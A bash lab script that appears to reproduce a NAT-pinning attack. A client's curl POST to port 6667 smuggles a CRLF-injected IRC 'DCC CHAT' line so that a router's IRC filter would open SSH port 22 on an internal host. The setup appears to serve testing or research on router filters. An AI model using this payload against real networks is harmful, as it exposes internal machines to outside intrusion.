#!/bin/bash
. "$(dirname "$0")/../../lab.sh"
need curl curl
lab
spawn server python3 "$TOOLS/http_server.py" 6667
wait_port server 6667
capture
# 3232235781 is 192.168.1.5: an IRC filter of the router would open port 22 of the client.
on client curl -sS -A 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/3.6' \
    -H "Origin: http://$WEB" -H 'Content-Type: text/plain' \
    --data-binary $'message=\r\nPRIVMSG friend :\x01DCC CHAT chat 3232235781 22\x01\r\n' http://$WEB:6667/
